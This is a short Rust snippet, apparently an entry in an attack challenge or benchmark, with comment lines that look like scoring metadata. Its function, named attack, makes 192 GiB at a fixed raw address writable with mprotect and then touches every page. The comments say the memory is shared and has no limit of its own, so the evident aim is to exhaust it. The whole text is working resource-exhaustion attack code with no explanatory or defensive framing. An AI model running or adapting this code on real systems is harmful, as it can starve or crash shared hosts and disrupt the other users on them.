// The memory that both share has no limit of its own: 192 GiB of it.
// on: reference
// in: pop
// earns: 76

unsafe extern "C" {
    fn mprotect(at: usize, len: usize, access: i32) -> i32;
}

fn attack() {
    const HEAP: usize = (32 << 40) + 9 * 4096;
    let heap = core::ptr::with_exposed_provenance_mut::<u8>(HEAP);
    unsafe {
        mprotect(HEAP, 192 << 30, 3);
        for page in 0..(192 << 30) / 4096 {
            heap.add(page * 4096).write_volatile(1);
        }
    }
}
